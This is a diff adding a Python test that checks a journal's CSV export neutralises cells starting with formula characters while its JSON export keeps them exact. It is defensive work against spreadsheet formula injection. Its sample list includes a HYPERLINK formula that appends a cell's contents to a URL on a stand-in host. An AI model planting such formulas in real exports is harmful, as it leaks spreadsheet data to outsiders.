@@ -384,3 +384,23 @@ def test_folders_made_by_an_export_are_private(tmp_path: Path) -> None:
         assert stat.S_IMODE((tmp_path / folder).stat().st_mode) == 0o700, folder
     for written in [tmp_path / "new" / "deep" / "x.json", *(tmp_path / "tables" / "csv").iterdir()]:
         assert stat.S_IMODE(written.stat().st_mode) == 0o600, written
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\t=1", "\r=1"]
+
+
+def test_csv_cells_that_look_like_formulas_are_quoted_and_the_json_stays_exact(
+    tmp_path: Path
+) -> None:
+    with Journal(":memory:") as journal:
+        for note in [*FORMULAS, "fine - no formula", "a=b"]:
+            journal.add(session(note=note))
+        journal.export_csv(tmp_path)
+        journal.export_json(tmp_path / "all.json")
+    with (tmp_path / "sessions.csv").open(encoding="utf-8", newline="") as handle:
+        notes = [r["note"] for r in csv.DictReader(handle)]
+    assert notes == [f"'{n}" for n in FORMULAS] + ["fine - no formula", "a=b"]
+    exported = json.loads((tmp_path / "all.json").read_text(encoding="utf-8"))
+    assert [r["note"] for r in exported["tables"]["sessions"]] == [
+        *FORMULAS, "fine - no formula", "a=b"]
